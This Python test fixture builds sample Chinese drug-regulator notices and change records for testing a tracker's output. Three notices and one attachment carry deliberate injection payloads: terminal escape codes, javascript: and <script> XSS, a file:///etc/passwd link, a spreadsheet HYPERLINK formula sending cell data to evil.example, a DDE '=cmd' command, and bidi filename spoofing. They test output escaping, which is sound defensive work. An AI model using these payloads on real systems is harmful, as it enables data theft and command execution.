"""Notices and changes of every sort for the tests of output: long, Chinese, hostile, and poor in facts."""

from datetime import UTC, date, datetime

from cdetrack.model.notice import Attachment, Notice
from cdetrack.model.record import Change, ChangeKind, Record
from support.notices import notice as made
from support.notices import tied

TODAY = date(2025, 11, 23)
SEEN = datetime(2025, 11, 22, 6, 0, tzinfo=UTC)
RED = "\x1b[31m"


def notice(identity: str, title: str, day: str, **given: object) -> Notice:
    """Return an announcement of the NMPA that has a page of its own."""
    url = f"https://english.example.org/{day[:7]}/{day[8:]}/c_{identity[:6]}.htm"
    values = {"issuers": ("NMPA",), "kind": "announcement", "url": url, "first_seen": SEEN, **given}
    return made(title, id=identity, date=date.fromisoformat(day), **values)


LONG = (
    "Announcement of the National Medical Products Administration and the National Health Commission on Issuing the "
    "Administrative Provisions on the Reporting and Monitoring of Adverse Reactions to Drugs Used in Medical "
    "Institutions of the Second Level and Above, with the Catalogue of Key Monitored Products and the Forms (Trial)"
)

NOTICES = (
    notice(
        "7c1f0a9be2d4",
        "Announcement of the NMPA on Issuing the Guideline for Clinical Trials in Children ([2025] No. 21)",
        "2025-11-20",
        number="2025-21",
        topics=("clinical-trials", "pediatrics"),
        effective=date(2026, 1, 1),
        relations=tied("a01b02c03d04", how="interpreted-by"),
        article="1130001",
        summary="The guideline sets out how trials in children are to be planned, and takes effect on January 1, 2026.",
    ),
    notice(
        "a01b02c03d04",
        "Policy Interpretation of the Guideline for Clinical Trials of Medicines for Children",
        "2025-11-20",
        kind="interpretation",
        topics=("clinical-trials", "pediatrics"),
        sources=("nmpa/drugs", "nmpa/policies"),
        relations=tied("7c1f0a9be2d4", how="interprets"),
    ),
    notice(
        "1122334455aa",
        "国家药监局药审中心关于发布《罕见病药物临床研发中应用真实世界数据的技术指导原则（征求意见稿）》的通知",
        "2025-11-18",
        kind="notice",
        status="draft",
        issuers=("CDE",),
        topics=("rare-diseases",),
        comments_due=date(2025, 11, 24),
        sources=("cde/opinions",),
    ),
    notice(
        "99aa88bb77cc",
        "关于公开征求 ICH《M4Q(R2)：人用药品通用技术文档》指导原则草案的通知 Draft for Public Comment（2025年第107号）",
        "2025-11-12",
        kind="notice",
        status="draft",
        number="2025-107",
        issuers=("CDE",),
        topics=("cmc", "ich", "registration"),
    ),
    notice(
        "0f0f0f0f0f0f",
        LONG,
        "2025-10-30",
        status="interim",
        issuers=("NMPA", "NHC"),
        topics=("controlled-substances", "distribution", "manufacturing", "registration", "safety"),
        number="2025-1040",
        effective=date(2025, 11, 1),
    ),
    notice("5e5e5e5e5e5e", "NMPA Approves Xyzumab Injection", "2025-10-21", kind="approval", topics=("approvals",)),
    notice(
        "deadbeef0001",
        f"{RED}Red\x1b[0m [red]markup[/red] [link=file:///etc/passwd]x[/link] \x1b]0;owned\x07 a\ttab\nand line",
        "2025-10-20",
        kind="news",
        issuers=(),
        url="javascript:alert(1)",
    ),
    notice(
        "deadbeef0002",
        '=HYPERLINK("http://evil.example/?x="&A1,"click") | pipe, "quote" <script>alert(1)</script> & `code` *x*',
        "2025-10-19",
        kind="news",
        issuers=(),
        url=None,
    ),
    notice(
        "deadbeef0003",
        "\u202egnp.exe\u202c \x9b31mC1 colour \ud800 and \u2066isolate\u2069",
        "2025-10-18",
        kind="news",
        url="https://x.example/\x1b]8;;evil",
    ),
    notice(
        "c0ffee000001",
        "Notice on Convening a Training Meeting for Marketing Authorization Holders",
        "2025-09-05",
        kind="meeting",
        event=date(2025, 12, 3),
        topics=("registration",),
    ),
    notice(
        "c0ffee000002",
        "关于暂停进口、销售和使用某某公司注射用某某某的公告",
        "2025-08-01",
        withdrawn=datetime(2025, 11, 1, 0, 30, tzinfo=UTC),
        topics=("distribution", "trade"),
    ),
    notice("c0ffee000003", "Donaudampfschifffahrtsgesellschaft" * 6, "2024-02-29", kind="report", url=None),
)

WHOLE = notice(
    "1122334455bb",
    "关于发布《化学药品创新药上市申请前会议药学共性问题及相关技术要求》的通告（2025年第12号）",
    "2025-09-05",
    kind="announcement",
    status="interim",
    number="2025-12",
    issuers=("CDE",),
    topics=("cmc", "innovation"),
    effective=date(2025, 9, 5),
    sources=("nmpa/drugs", "nmpa/policies"),
    article="1136058",
    summary="Zhao Qian met the delegation of a trade union. 会议在北京举行。" * 3,
    summary_suspect=True,
    relations=(
        *tied("7c1f0a9be2d4", how="same-document"),
        *tied("a01b02c03d04", how="interpreted-by"),
        *tied("ffffffffffff", how="corrected-by"),
    ),
    document_date=date(2025, 9, 1),
    body="第一条　为规范管理，制定本规定。\n\n\n\n第二条　本规定自发布之日起施行。\n"
    + "All parties shall comply. " * 12,
    attachments=(
        Attachment(name="附件1 技术要求.docx", url="https://english.example.org/a/1.docx", type="docx"),
        Attachment(name="=cmd|' /C calc'!A0", url="javascript:alert(1)", type=""),
    ),
)


def record(of: Notice, **other: object) -> Record:
    values: dict[str, object] = {
        name: getattr(of, name)
        for name in ("title", "date", "summary", "url", "article", "sources", "document_date", "body", "attachments")
    }
    return Record(**(values | other))  # type: ignore[arg-type]


def change(of: Notice, kind: ChangeKind, before: Record | None, after: Record | None, *fields: str) -> Change:
    return Change(at=SEEN, id=of.id, source="nmpa/drugs", look=7, before=before, after=after, kind=kind, fields=fields)


CHANGES = (
    change(NOTICES[0], "added", None, record(NOTICES[0]), "title", "date", "url"),
    change(NOTICES[6], "added", None, record(NOTICES[6]), "title", "date"),
    change(
        WHOLE,
        "changed",
        record(WHOLE, summary=None),
        record(
            WHOLE,
            title=WHOLE.title.replace("第12号", "第13号"),
            date=date(2025, 9, 6),
            sources=(*WHOLE.sources, "cde/guidance"),
            body=(WHOLE.body or "").replace("自发布之日起", "自2025年10月1日起"),
            attachments=WHOLE.attachments[:1],
        ),
        *("title", "date", "summary", "sources", "body", "attachments"),
    ),
    change(NOTICES[10], "withdrawn", record(NOTICES[10]), None),
    change(NOTICES[2], "restored", None, record(NOTICES[2])),
)
